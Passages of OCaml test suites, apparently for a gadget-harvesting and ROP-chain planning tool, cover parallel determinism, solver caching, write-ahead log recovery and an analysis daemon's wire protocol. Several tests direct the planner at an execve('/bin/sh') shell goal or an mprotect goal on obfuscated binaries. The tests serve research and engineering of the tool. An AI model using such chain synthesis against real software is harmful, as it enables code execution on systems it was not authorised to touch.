  let ok = Gp_util.Par.run ~jobs:4 (Array.init n (fun i () -> i * i)) in
  Alcotest.(check bool) "pool unharmed: subsequent run correct" true
    (ok = Array.init n (fun i -> i * i))

let suite =
  [ Alcotest.test_case "rng deterministic" `Quick test_rng_deterministic;
    Alcotest.test_case "rng seeds differ" `Quick test_rng_seeds_differ;
    Alcotest.test_case "rng int bounds" `Quick test_rng_int_bounds;
    Alcotest.test_case "rng choose member" `Quick test_rng_choose;
    Alcotest.test_case "rng shuffle permutes" `Quick test_rng_shuffle_permutes;
    Alcotest.test_case "rng split deterministic" `Quick test_rng_split_independent;
    Alcotest.test_case "hex of bytes" `Quick test_hex_of_bytes;
    Alcotest.test_case "hex int64 le" `Quick test_hex_int64_le;
    Alcotest.test_case "image bounds" `Quick test_image_bounds;
    Alcotest.test_case "image unmapped raises" `Quick test_image_unmapped_raises;
    Alcotest.test_case "image symbols" `Quick test_image_symbols;
    Alcotest.test_case "image cstring" `Quick test_image_cstring;
    Alcotest.test_case "wal roundtrip" `Quick test_wal_roundtrip;
    Alcotest.test_case "wal truncation every byte" `Quick
      test_wal_truncation_every_byte;
    Gen.qtest "wal truncation (random records)" ~count:60
      QCheck2.Gen.(
        pair
          (list_size (int_range 0 6)
             (triple (string_size (int_range 0 8))
                (string_size (int_range 0 12))
                (string_size (int_range 0 64))))
          (int_range 0 10_000))
      prop_wal_truncation;
    Alcotest.test_case "wal bit flips: prefix or reject" `Quick
      test_wal_bitflip_prefix_or_reject;
    Alcotest.test_case "wal append after torn tail" `Quick
      test_wal_open_after_torn;
    Alcotest.test_case "wal foreign/stale rejected" `Quick
      test_wal_foreign_rejected;
    Alcotest.test_case "store lock exclusion" `Quick test_store_lock_exclusion;
    Alcotest.test_case "par run exception safety" `Quick
      test_par_run_exception_safety ]
