(* Parallel-execution determinism tests (DESIGN.md "Parallel execution
   & determinism").  Three angles:

   - differential: the full pipeline at [jobs > 1] is bit-identical to
     the sequential run across the survey programs and obfuscation
     configs — pool, plan counts, validated-chain sets, quarantine
     ledgers, budget accounting;
   - fault injection under parallelism: keyed chaos schedules hit the
     same items whatever the domain count, so no quarantined fault is
     dropped or double-counted when the harvest fans out;
   - properties of the solver memo: a cache hit can never change a
     verdict, and canonicalization is idempotent and order-insensitive.

   The differential suite honors a JOBS environment variable (default
   4) so `make check-par` can sweep job counts without editing code. *)

open Gp_x86

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

(* ----- differential: Api.run ~jobs:N ≡ ~jobs:1 ----- *)

(* Seven survey programs x three obfuscation configs = 21 cells, a
   spread of pool sizes from a few dozen gadgets to a few hundred. *)
let diff_programs =
  [ "fibonacci"; "gcd_lcm"; "bubble_sort"; "string_reverse";
    "crc_check"; "bitcount"; "prime_sieve" ]

let planner_config =
  { Gp_core.Planner.max_plans = 4; node_budget = 1200; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

(* Everything in the outcome that must not depend on the job count.
   Cache hit/miss counters are deliberately absent: hit rate is a
   property of cache temperature, not of verdicts. *)
type fingerprint = {
  f_extracted : int;
  f_deduped : int;
  f_pool_size : int;
  f_plans_found : int;
  f_chains : string list;            (* sorted chain keys *)
  f_quarantined : (string * int) list;
  f_unknowns : int;
  f_budget_hits : string list;
  f_rungs : string list;
}

let fingerprint (o : Gp_core.Api.outcome) =
  let s = o.Gp_core.Api.stats in
  { f_extracted = s.Gp_core.Api.extracted;
    f_deduped = s.Gp_core.Api.deduped;
    f_pool_size = s.Gp_core.Api.pool_size;
    f_plans_found = s.Gp_core.Api.plans_found;
    f_chains =
      List.sort compare
        (List.map Gp_core.Payload.chain_key o.Gp_core.Api.chains);
    f_quarantined = s.Gp_core.Api.quarantined;
    f_unknowns = s.Gp_core.Api.solver_unknowns;
    f_budget_hits = s.Gp_core.Api.budget_hits;
    f_rungs = List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs }

let run_once ~jobs image =
  Gp_core.Gadget.reset_ids ();
  Gp_core.Api.run ~planner_config ~jobs image (Gp_core.Goal.Execve "/bin/sh")

let test_differential () =
  List.iter
    (fun pname ->
      let entry = Gp_corpus.Programs.find pname in
      List.iter
        (fun (cname, cfg) ->
          let image =
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source
          in
          let seq = fingerprint (run_once ~jobs:1 image) in
          let par = fingerprint (run_once ~jobs:jobs_under_test image) in
          let cell = Printf.sprintf "%s/%s" pname cname in
          Alcotest.(check bool)
            (cell ^ " identical") true (seq = par))
        Gp_harness.Workspace.obf_configs)
    diff_programs

(* The parallel pool must also carry the same ids in the same order,
   not merely the same addresses — planner determinism rests on it. *)
let test_pool_ids_identical () =
  let image =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source
  in
  let snapshot jobs =
    Gp_core.Gadget.reset_ids ();
    let a = Gp_core.Api.analyze ~jobs image in
    List.map
      (fun (g : Gp_core.Gadget.t) -> (g.Gp_core.Gadget.id, g.Gp_core.Gadget.addr))
      a.Gp_core.Api.gadgets
  in
  let seq = snapshot 1 in
  Alcotest.(check bool) "jobs=2 ids" true (snapshot 2 = seq);
  Alcotest.(check bool) "jobs=4 ids" true (snapshot 4 = seq)

(* ----- fault injection under parallelism ----- *)

(* A 10% uniform fault sweep: the keyed schedules must hit exactly the
   same starts/queries at every job count, so the quarantine ledger and
   the surviving pool are invariant — nothing dropped, nothing counted
   twice when chunks fan out. *)
let test_faults_invariant_under_jobs () =
  let image =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.tigress)
      (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source
  in
  let cfg = Gp_harness.Faultsim.uniform ~seed:11 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let sweep jobs =
        Gp_core.Gadget.reset_ids ();
        let gs, st = Gp_core.Extract.harvest_r ~jobs image in
        ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr) gs,
          st.Gp_core.Extract.h_quarantined )
      in
      let addrs1, tally1 = sweep 1 in
      let addrs2, tally2 = sweep 2 in
      let addrs4, tally4 = sweep 4 in
      Alcotest.(check (list (pair string int))) "tally jobs=2" tally1 tally2;
      Alcotest.(check (list (pair string int))) "tally jobs=4" tally1 tally4;
      Alcotest.(check bool) "pool jobs=2" true (addrs1 = addrs2);
      Alcotest.(check bool) "pool jobs=4" true (addrs1 = addrs4);
      (* the sweep must actually be injecting: at 10% over thousands of
         start offsets, zero decode quarantines means a dead hook *)
      match List.assoc_opt "decode" tally1 with
      | Some n when n > 0 -> ()
      | _ -> Alcotest.fail "no decode faults quarantined at 10%")

(* ----- solver memo properties ----- *)

(* A cache hit can never change a verdict: a fresh (uncached) solve,
   the miss that populates the store, and the hit that reads it back
   all agree, for random queries. *)
let prop_cache_verdict_stable fs =
  Gp_smt.Cache.reset Gp_smt.Solver.memo;
  Gp_smt.Cache.set_enabled Gp_smt.Solver.memo false;
  let fresh = Gp_smt.Solver.check fs in
  Gp_smt.Cache.set_enabled Gp_smt.Solver.memo true;
  let miss = Gp_smt.Solver.check fs in
  let hit = Gp_smt.Solver.check fs in
  fresh = miss && miss = hit

(* Permutations of a conjunction share a canonical key, hence a verdict. *)
let prop_cache_order_insensitive fs =
  Gp_smt.Cache.reset Gp_smt.Solver.memo;
  Gp_smt.Solver.check fs = Gp_smt.Solver.check (List.rev fs)

let prop_canon_idempotent fs =
  let c = Gp_smt.Cache.canon fs in
  Gp_smt.Cache.canon c = c

let prop_canon_permutation_stable fs =
  Gp_smt.Cache.canon fs = Gp_smt.Cache.canon (List.rev fs)

(* prove_equal memoization: cached and uncached answers agree, and the
   ordered-pair key makes the memoized form symmetric. *)
let prop_equal_memo_stable (a, b) =
  Gp_smt.Cache.reset Gp_smt.Solver.equal_memo;
  Gp_smt.Cache.set_enabled Gp_smt.Solver.equal_memo false;
  let fresh = Gp_smt.Solver.prove_equal a b in
  Gp_smt.Cache.set_enabled Gp_smt.Solver.equal_memo true;
  Gp_smt.Solver.prove_equal a b = fresh
  && Gp_smt.Solver.prove_equal b a = fresh

(* ----- decode round-trips at unaligned offsets ----- *)

(* An encoded instruction embedded at a random unaligned offset inside
   byte soup decodes back to itself with the same length — position
   independence of the decoder, which unaligned harvest relies on. *)
let prop_roundtrip_unaligned (junk, insn) =
  match Encode.insn insn with
  | exception Encode.Unencodable _ -> true  (* generator may exceed imm32 *)
  | enc ->
    let prefix = Bytes.of_string junk in
    let buf = Bytes.cat prefix enc in
    let pos = Bytes.length prefix in
    (match Decode.decode buf pos with
     | Some (insn', len) -> insn' = insn && len = Bytes.length enc
     | None -> false)

(* Decoding random bytes at every offset never raises and never reads
   past the end of the buffer. *)
let prop_decode_total_at_offsets s =
  let bytes = Bytes.of_string s in
  let n = Bytes.length bytes in
  let ok = ref true in
  for pos = 0 to n - 1 do
    match Decode.decode bytes pos with
    | Some (_, len) -> if len <= 0 || pos + len > n then ok := false
    | None -> ()
  done;
  !ok

let suite =
  [ Alcotest.test_case "differential jobs=N vs jobs=1" `Slow test_differential;
    Alcotest.test_case "pool ids identical" `Quick test_pool_ids_identical;
    Alcotest.test_case "faults invariant under jobs" `Quick
      test_faults_invariant_under_jobs;
    Gen.qtest "cache hit preserves verdict" ~count:100 Gen.formulas
      prop_cache_verdict_stable;
    Gen.qtest "verdict order-insensitive" ~count:100 Gen.formulas
      prop_cache_order_insensitive;
    Gen.qtest "canon idempotent" ~count:300 Gen.formulas prop_canon_idempotent;
    Gen.qtest "canon permutation-stable" ~count:300 Gen.formulas
      prop_canon_permutation_stable;
    Gen.qtest "prove_equal memo stable" ~count:100
      QCheck2.Gen.(pair Gen.term Gen.term) prop_equal_memo_stable;
    Gen.qtest "roundtrip at unaligned offsets" ~count:500
      QCheck2.Gen.(pair (string_size (int_range 0 15)) Gen.insn)
      prop_roundtrip_unaligned;
    Gen.qtest "decode total at every offset" ~count:200
      QCheck2.Gen.(string_size (int_range 1 48))
      prop_decode_total_at_offsets ]
