(* Analysis daemon tests (DESIGN.md §15).  Five angles:

   - the wire: frame codec round-trips, incremental parsing across
     arbitrary split points, and totality — truncations and bit flips
     map to Incomplete/Malformed, never an exception (qcheck);
   - sharded shared state: the sharded solver [Cache] and [Incr]
     summary table are observationally identical to a single-lock
     model — first-write-wins, size/reset, hit/miss counters exact
     under a sequential op stream (qcheck) and conserved under a
     4-domain stress;
   - the [Sched.Service] persistent pool: everything submitted runs,
     chained resubmission works (the daemon's stage chains), worker
     exceptions are fatal and re-raised at [stop];
   - the acceptance differential: a resident daemon serving a shuffled
     replay (each survey cell twice) answers bit-identically to the
     inline CLI path, at pool jobs 1 and JOBS, and batched journal
     checkpoints fire and survive a [journal_close] compaction;
   - failure stories: every keyed wire-fault mode (torn length, torn
     body, bad checksum, client hangup) is quarantined under the right
     [Fail.Frame_fault] label WITHOUT poisoning resident caches (the
     next clean request is still bit-identical); a CLI run pointed at
     the daemon's locked cache dir demotes to read-only cleanly; a
     crash at the wal-append point abandons the journal exactly like a
     crashed sweep, and the dir is reopenable. *)

module E = Gp_harness.Experiments
module S = Gp_harness.Sched
module Sv = Gp_harness.Serve
module F = Gp_util.Frame
module Fault = Gp_harness.Faultsim

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-serve-test-%d-%d" (Unix.getpid ()) !n)
    in
    E.rm_rf d;
    d

let fib = Gp_corpus.Programs.find "fibonacci"

let one_request () =
  match
    E.serve_requests ~entries:[ fib ]
      ~configs:[ ("original", Gp_obf.Obf.none) ] ~quick:true ()
  with
  | [ (_, rq) ] -> rq
  | _ -> assert false

(* ----- frame codec ----- *)

let test_frame_roundtrip () =
  let payload = "hello frames" in
  let f = F.encode payload in
  Alcotest.(check int) "frame length"
    (F.header_bytes + String.length payload + F.trailer_bytes)
    (String.length f);
  (match F.parse f with
  | F.Complete (p, used) ->
    Alcotest.(check string) "payload" payload p;
    Alcotest.(check int) "consumed" (String.length f) used
  | _ -> Alcotest.fail "expected Complete");
  (* two frames back to back parse in sequence *)
  let f2 = F.encode "second" in
  let buf = f ^ f2 in
  match F.parse buf with
  | F.Complete (p, used) ->
    Alcotest.(check string) "first of two" payload p;
    (match F.parse ~off:used buf with
    | F.Complete (p2, _) -> Alcotest.(check string) "second of two" "second" p2
    | _ -> Alcotest.fail "second frame expected Complete")
  | _ -> Alcotest.fail "first frame expected Complete"

let test_frame_incremental () =
  let f = F.encode "abc" in
  for k = 0 to String.length f - 1 do
    match F.parse ~len:k f with
    | F.Incomplete -> ()
    | F.Complete _ -> Alcotest.failf "Complete at %d/%d bytes" k (String.length f)
    | F.Malformed e -> Alcotest.failf "Malformed (%s) at prefix %d" (F.error_reason e) k
  done

let test_frame_malformed () =
  let f = Bytes.of_string (F.encode "payload") in
  let with_byte i v =
    let b = Bytes.copy f in
    Bytes.set_uint8 b i v;
    Bytes.to_string b
  in
  (match F.parse (with_byte 0 0x58) with
  | F.Malformed F.Bad_magic -> ()
  | _ -> Alcotest.fail "expected Bad_magic");
  (match F.parse (with_byte 4 99) with
  | F.Malformed (F.Bad_version _) -> ()
  | _ -> Alcotest.fail "expected Bad_version");
  (* length field promising more than max_payload: rejected before
     any allocation *)
  (match F.parse (with_byte 18 0x7f) with
  | F.Malformed (F.Bad_length _) -> ()
  | _ -> Alcotest.fail "expected Bad_length");
  (* flip a payload byte: checksum must catch it *)
  match F.parse (with_byte (F.header_bytes + 2) 0x00) with
  | F.Malformed F.Bad_checksum -> ()
  | _ -> Alcotest.fail "expected Bad_checksum"

let qcheck_frame_roundtrip =
  QCheck2.Test.make ~count:300 ~name:"frame encode/parse round-trip"
    QCheck2.Gen.(string_size ~gen:(char_range '\000' '\255') (int_range 0 500))
    (fun payload ->
      match F.parse (F.encode payload) with
      | F.Complete (p, used) ->
        p = payload
        && used = F.header_bytes + String.length payload + F.trailer_bytes
      | _ -> false)

let qcheck_frame_truncation =
  QCheck2.Test.make ~count:300 ~name:"truncated frames are never Complete"
    QCheck2.Gen.(
      pair
        (string_size ~gen:(char_range '\000' '\255') (int_range 0 200))
        (float_bound_inclusive 1.))
    (fun (payload, frac) ->
      let f = F.encode payload in
      let k = int_of_float (frac *. float (String.length f - 1)) in
      match F.parse ~len:k f with
      | F.Complete _ -> false
      | F.Incomplete | F.Malformed _ -> true)

let qcheck_frame_bitflip =
  QCheck2.Test.make ~count:300
    ~name:"bit-flipped frames never yield the original payload"
    QCheck2.Gen.(
      triple
        (string_size ~gen:(char_range '\000' '\255') (int_range 1 200))
        small_nat (int_range 1 255))
    (fun (payload, pos, mask) ->
      let f = Bytes.of_string (F.encode payload) in
      let i = pos mod Bytes.length f in
      Bytes.set_uint8 f i (Bytes.get_uint8 f i lxor mask);
      match F.parse (Bytes.to_string f) with
      | F.Complete (p, _) -> p <> payload
      | F.Incomplete | F.Malformed _ -> true)

(* ----- request/report payload codecs ----- *)

let test_request_codec_roundtrip () =
  let rq =
    { (one_request ()) with Sv.rq_goal = "mprotect"; rq_budget_s = 2.5;
      rq_jobs = 3 }
  in
  let rq' = Sv.request_decode (Sv.request_encode rq) (ref 0) in
  Alcotest.(check bool) "request round-trips" true (rq = rq')

let test_report_codec_roundtrip () =
  let r =
    { Sv.sr_pool = 42;
      sr_chains = [ ("k1", "desc one\nline 2"); ("k2", "desc two") ];
      sr_rungs = [ "full"; "dedup-only" ];
      sr_budget_hits = [ "plan" ];
      sr_quarantined = [ ("decode", 3) ];
      sr_counters = [ ("plans_found", 2); ("fp_refuted", 5); ("q:emu", 1) ] }
  in
  let r' = Sv.report_decode (Sv.report_encode r) (ref 0) in
  Alcotest.(check bool) "report round-trips" true (r = r')

(* ----- sharded tables vs the single-lock model (qcheck) ----- *)

let qcheck_cache_model =
  QCheck2.Test.make ~count:300
    ~name:"sharded Cache ≡ single-lock model (values, size, counters)"
    QCheck2.Gen.(list_size (int_range 0 200) (int_range 0 40))
    (fun keys ->
      let c = Gp_smt.Cache.create ~size:4 () in
      let m = Hashtbl.create 16 in
      let mhits = ref 0 and mmiss = ref 0 in
      let ok =
        List.for_all
          (fun k ->
            let v = Gp_smt.Cache.find_or_add c k (fun () -> (k * 7) + 1) in
            let mv =
              match Hashtbl.find_opt m k with
              | Some v -> incr mhits; v
              | None ->
                incr mmiss;
                let v = (k * 7) + 1 in
                Hashtbl.add m k v;
                v
            in
            v = mv)
          keys
      in
      ok
      && Gp_smt.Cache.length c = Hashtbl.length m
      && Gp_smt.Cache.hits c = !mhits
      && Gp_smt.Cache.misses c = !mmiss
      &&
      (Gp_smt.Cache.reset c;
       Gp_smt.Cache.length c = 0 && Gp_smt.Cache.hits c = 0
       && Gp_smt.Cache.misses c = 0))

let test_cache_first_write_wins () =
  let c = Gp_smt.Cache.create () in
  let v1 = Gp_smt.Cache.find_or_add c "k" (fun () -> 1) in
  Alcotest.(check int) "computed" 1 v1;
  (* import of a conflicting binding must not override *)
  Gp_smt.Cache.import c [ ("k", 99); ("fresh", 7) ];
  Alcotest.(check int) "existing binding kept" 1
    (Gp_smt.Cache.find_or_add c "k" (fun () -> Alcotest.fail "recompute"));
  Alcotest.(check int) "imported fresh binding" 7
    (Gp_smt.Cache.find_or_add c "fresh" (fun () -> Alcotest.fail "recompute"));
  Alcotest.(check int) "export sees both shards' entries" 2
    (List.length (Gp_smt.Cache.export c))

let test_cache_stress_domains () =
  let c = Gp_smt.Cache.create () in
  let nkeys = 100 and per = 400 and ndom = 4 in
  let computes = Atomic.make 0 in
  let doms =
    List.init ndom (fun d ->
        Domain.spawn (fun () ->
            for i = 0 to per - 1 do
              (* strides 7,8,9,10 over Z/100: overlapping coverage *)
              let k = i * (d + 7) mod nkeys in
              let v =
                Gp_smt.Cache.find_or_add c k (fun () ->
                    Atomic.incr computes;
                    k * 3)
              in
              assert (v = k * 3)
            done))
  in
  List.iter Domain.join doms;
  Alcotest.(check int) "every key present exactly once" nkeys
    (Gp_smt.Cache.length c);
  Alcotest.(check int) "hits+misses = lookups" (ndom * per)
    (Gp_smt.Cache.hits c + Gp_smt.Cache.misses c);
  Alcotest.(check int) "every miss computed exactly once" (Atomic.get computes)
    (Gp_smt.Cache.misses c);
  Alcotest.(check bool) "misses cover the key space" true
    (Gp_smt.Cache.misses c >= nkeys)

let qcheck_incr_model =
  QCheck2.Test.make ~count:200
    ~name:"sharded Incr ≡ single-lock model (first-write-wins, size)"
    QCheck2.Gen.(list_size (int_range 0 120) (pair (int_range 0 25) small_nat))
    (fun ops ->
      E.reset_world ();
      let m = Hashtbl.create 16 in
      let ok =
        List.for_all
          (fun (k, salt) ->
            let key = Printf.sprintf "content-%d" k in
            let v : Gp_core.Incr.value =
              ([], Some (Printf.sprintf "v%d-%d" k salt))
            in
            if not (Hashtbl.mem m key) then Hashtbl.add m key v;
            Gp_core.Incr.add key v;
            Gp_core.Incr.find key = Hashtbl.find_opt m key)
          ops
      in
      let size_ok = Gp_core.Incr.size () = Hashtbl.length m in
      E.reset_world ();
      ok && size_ok && Gp_core.Incr.size () = 0)

let test_incr_stress_domains () =
  E.reset_world ();
  let nkeys = 50 and ndom = 4 in
  let doms =
    List.init ndom (fun d ->
        Domain.spawn (fun () ->
            for k = 0 to nkeys - 1 do
              let key = Printf.sprintf "content-%d" k in
              Gp_core.Incr.add key ([], Some (Printf.sprintf "writer-%d" d));
              (* whatever we read back must already be the winner *)
              match Gp_core.Incr.find key with
              | Some _ -> ()
              | None -> assert false
            done))
  in
  List.iter Domain.join doms;
  Alcotest.(check int) "no lost keys" nkeys (Gp_core.Incr.size ());
  for k = 0 to nkeys - 1 do
    match Gp_core.Incr.find (Printf.sprintf "content-%d" k) with
    | Some ([], Some w) ->
      Alcotest.(check bool) "winner is one of the writers" true
        (List.exists
           (fun d -> w = Printf.sprintf "writer-%d" d)
           (List.init ndom Fun.id))
    | _ -> Alcotest.fail "missing or malformed entry"
  done;
  E.reset_world ()

(* ----- Service pool ----- *)

let test_service_runs_all () =
  let sv = S.Service.start ~jobs:4 in
  let n = Atomic.make 0 in
  for _ = 1 to 200 do
    S.Service.submit sv (fun () -> Atomic.incr n)
  done;
  S.Service.stop sv;
  Alcotest.(check int) "every task ran" 200 (Atomic.get n);
  Alcotest.(check int) "nothing pending" 0 (S.Service.pending sv)

let test_service_chained () =
  (* the daemon's request shape: each task resubmits its continuation *)
  let sv = S.Service.start ~jobs:2 in
  let hops = Atomic.make 0 in
  let rec chain k =
    S.Service.submit sv (fun () ->
        Atomic.incr hops;
        if k > 1 then chain (k - 1))
  in
  chain 50;
  chain 50;
  S.Service.stop sv;
  Alcotest.(check int) "both chains completed" 100 (Atomic.get hops)

let test_service_fatal () =
  let sv = S.Service.start ~jobs:2 in
  S.Service.submit sv (fun () -> failwith "handler bug");
  Alcotest.check_raises "worker exception is fatal at stop"
    (Failure "handler bug") (fun () -> S.Service.stop sv)

(* ----- daemon plumbing shared by the integration tests ----- *)

let fresh_sock =
  let n = ref 0 in
  fun () ->
    incr n;
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "gp-serve-t-%d-%d.sock" (Unix.getpid ()) !n)

(* Run [f ~sock cl] against a fresh in-process daemon.  The daemon's
   own crash (e.g. an injected [Faultsim.Crashed]) re-raises from
   [Domain.join], taking precedence over [f]'s result — exactly the
   observation order a supervisor would have. *)
let with_daemon ?cache_dir ~jobs f =
  E.reset_world ();
  let sock = fresh_sock () in
  let cfg =
    { (Sv.default_config ~socket:sock) with
      Sv.d_cache_dir = cache_dir;
      d_jobs = jobs }
  in
  let dmn = Domain.spawn (fun () -> Sv.serve cfg) in
  let rec conn tries =
    match Sv.Client.connect sock with
    | Ok cl -> cl
    | Error why ->
      if tries > 500 then failwith ("daemon never came up: " ^ why)
      else begin
        Unix.sleepf 0.01;
        conn (tries + 1)
      end
  in
  let cl = conn 0 in
  let fin = match f ~sock cl with v -> Ok v | exception e -> Error e in
  (match Sv.Client.shutdown cl with
  | Ok () -> ()
  | Error _ -> (
    (* the connection [f] used may be gone; a fresh one still reaches a
       living daemon, and a dead daemon surfaces at the join below *)
    match Sv.Client.connect sock with
    | Ok c2 ->
      ignore (Sv.Client.shutdown c2);
      Sv.Client.close c2
    | Error _ -> ()));
  Sv.Client.close cl;
  let sm = Domain.join dmn in
  match fin with Ok v -> (v, sm) | Error e -> raise e

let rec stats_until cl pred tries =
  match Sv.Client.stats cl with
  | Ok ds when pred ds || tries > 100 -> ds
  | Ok _ ->
    Unix.sleepf 0.02;
    stats_until cl pred (tries + 1)
  | Error f -> Alcotest.failf "stats: %s" (Gp_core.Fail.to_string f)

(* ----- the acceptance differential ----- *)

let test_daemon_differential () =
  let requests = E.serve_requests ~entries:[ fib ] ~quick:true () in
  let replay = requests @ requests in
  let refs =
    List.map
      (fun (_, rq) ->
        E.reset_world ();
        Sv.report_encode (Sv.handle rq))
      replay
  in
  List.iter
    (fun j ->
      let results, sm = E.serve_daemon_pass ~pool_jobs:j replay in
      Alcotest.(check int)
        (Printf.sprintf "served count at pool jobs %d" j)
        (List.length replay) sm.Sv.sm_served;
      Alcotest.(check (list (pair string int)))
        (Printf.sprintf "no wire faults at pool jobs %d" j)
        [] sm.Sv.sm_faults;
      Alcotest.(check (list string))
        (Printf.sprintf "bit-identical to the CLI path at pool jobs %d" j)
        refs
        (List.map fst results))
    (List.sort_uniq compare [ 1; jobs_under_test ])

let test_daemon_checkpoints () =
  let dir = tmp_dir () in
  let rq = one_request () in
  let replay = List.init 9 (fun i -> (Printf.sprintf "r%d" i, rq)) in
  let results, sm = E.serve_daemon_pass ~cache_dir:dir ~pool_jobs:1 replay in
  Alcotest.(check int) "all served" 9 (List.length results);
  Alcotest.(check string) "journaling mode" "journaling" sm.Sv.sm_mode;
  Alcotest.(check bool)
    (Printf.sprintf "batched checkpoints fired (%d)" sm.Sv.sm_checkpoints)
    true
    (sm.Sv.sm_checkpoints >= 1);
  (* shutdown compacted WAL -> base store; it must load warm *)
  E.reset_world ();
  (match Gp_core.Incr.load ~dir with
  | Gp_core.Incr.Loaded li ->
    Alcotest.(check bool) "compacted store is non-empty" true
      (li.Gp_core.Incr.li_entries > 0)
  | _ -> Alcotest.fail "compacted store did not load");
  E.reset_world ();
  E.rm_rf dir

(* ----- fingerprint counters across the wire (DESIGN.md §17) ----- *)

(* The invariant reply counters carry [fp_refuted] (warm/cold-invariant
   like the verdicts it mirrors) but NOT the fp store hit/miss split
   (temperature — it would break the daemon-vs-CLI byte parity the
   differential above asserts).  The temperature split travels in the
   stats reply and the final ledger instead. *)
let test_fp_counters_surfaced () =
  let rq =
    match
      E.serve_requests ~entries:[ fib ]
        ~configs:[ ("tigress", Gp_obf.Obf.tigress) ] ~quick:true ()
    with
    | [ (_, rq) ] -> rq
    | _ -> assert false
  in
  E.reset_world ();
  let r = Sv.handle rq in
  Alcotest.(check bool) "fp_refuted in the invariant counters" true
    (List.mem_assoc "fp_refuted" r.Sv.sr_counters);
  Alcotest.(check bool) "fp hit/miss split kept out of them" true
    (not (List.mem_assoc "fp_hits" r.Sv.sr_counters)
     && not (List.mem_assoc "fp_misses" r.Sv.sr_counters));
  let cli_refuted = List.assoc "fp_refuted" r.Sv.sr_counters in
  let (), sm =
    with_daemon ~jobs:1 (fun ~sock:_ cl ->
        (match Sv.Client.submit cl rq with
        | Error f -> Alcotest.failf "submit: %s" (Gp_core.Fail.to_string f)
        | Ok r' ->
          Alcotest.(check int) "daemon reply repeats the CLI tally"
            cli_refuted
            (List.assoc "fp_refuted" r'.Sv.sr_counters));
        let ds = stats_until cl (fun ds -> ds.Sv.ds_served >= 1) 0 in
        Alcotest.(check bool) "cold daemon computed fingerprints" true
          (ds.Sv.ds_fp_misses > 0);
        Alcotest.(check int) "stats reply fp_refuted matches" cli_refuted
          ds.Sv.ds_fp_refuted)
  in
  Alcotest.(check int) "ledger repeats the stats view" cli_refuted
    sm.Sv.sm_fp_refuted;
  Alcotest.(check bool) "ledger carries the store split" true
    (sm.Sv.sm_fp_misses > 0 && sm.Sv.sm_fp_hits >= 0)

(* ----- wire-fault injection (satellite: Faultsim frame faults) ----- *)

let fault_label = function
  | F.Torn_len | F.Torn_body -> "frame-torn"
  | F.Flip_sum -> "frame-checksum"
  | F.Hangup -> "frame-disconnect"

let test_wire_fault_modes () =
  let rq = one_request () in
  E.reset_world ();
  let reference = Sv.report_encode (Sv.handle rq) in
  let saved = !F.chaos_wire in
  let ((), sm) =
    with_daemon ~jobs:1 (fun ~sock cl ->
        Fun.protect
          ~finally:(fun () -> F.chaos_wire := saved)
          (fun () ->
            let last = ref cl in
            List.iter
              (fun mode ->
                (* damage only Analyze frames, so the daemon's own
                   stats/shutdown traffic stays clean *)
                F.chaos_wire :=
                  (fun p ->
                    if String.length p > 0 && p.[0] = '\001' then Some mode
                    else None);
                (match Sv.Client.submit !last rq with
                | Error (Gp_core.Fail.Frame_fault _) -> ()
                | Error f ->
                  Alcotest.failf "expected a frame fault, got %s"
                    (Gp_core.Fail.to_string f)
                | Ok _ -> Alcotest.fail "injected wire fault did not fire");
                F.chaos_wire := saved;
                (* the faulted connection is gone; a clean request on a
                   fresh one must still be bit-identical — the resident
                   caches never saw the damaged frame *)
                (match Sv.Client.connect sock with
                | Error why -> Alcotest.failf "reconnect: %s" why
                | Ok cl2 ->
                  (match Sv.Client.submit cl2 rq with
                  | Ok r ->
                    Alcotest.(check string)
                      (Printf.sprintf "clean request after %s unpoisoned"
                         (fault_label mode))
                      reference (Sv.report_encode r)
                  | Error f ->
                    Alcotest.failf "clean request failed: %s"
                      (Gp_core.Fail.to_string f));
                  Sv.Client.close !last;
                  last := cl2))
              [ F.Torn_len; F.Torn_body; F.Flip_sum; F.Hangup ];
            let ds =
              stats_until !last
                (fun ds ->
                  List.mem_assoc "frame-torn" ds.Sv.ds_faults
                  && List.mem_assoc "frame-checksum" ds.Sv.ds_faults
                  && List.mem_assoc "frame-disconnect" ds.Sv.ds_faults)
                0
            in
            Alcotest.(check int) "both torn modes quarantined" 2
              (List.assoc "frame-torn" ds.Sv.ds_faults);
            Alcotest.(check int) "checksum mode quarantined" 1
              (List.assoc "frame-checksum" ds.Sv.ds_faults);
            Alcotest.(check int) "hangup mode quarantined" 1
              (List.assoc "frame-disconnect" ds.Sv.ds_faults);
            Sv.Client.close !last))
  in
  (* the daemon's final ledger repeats the stats view *)
  Alcotest.(check int) "summary ledger total" 4
    (List.fold_left (fun a (_, n) -> a + n) 0 sm.Sv.sm_faults)

let test_wire_faults_via_faultsim () =
  let rq = one_request () in
  E.reset_world ();
  let reference = Sv.report_encode (Sv.handle rq) in
  let ((), _sm) =
    with_daemon ~jobs:1 (fun ~sock cl ->
        Fault.with_faults
          { Fault.disabled with seed = 0x5eed; frame_rate = 1.0 }
          (fun () ->
            match Sv.Client.submit cl rq with
            | Error (Gp_core.Fail.Frame_fault _) -> ()
            | Error f ->
              Alcotest.failf "expected a frame fault, got %s"
                (Gp_core.Fail.to_string f)
            | Ok _ -> Alcotest.fail "keyed schedule at rate 1.0 did not fire");
        (* hooks restored: a clean request still answers identically *)
        match Sv.Client.connect sock with
        | Error why -> Alcotest.failf "reconnect: %s" why
        | Ok cl2 ->
          (match Sv.Client.submit cl2 rq with
          | Ok r ->
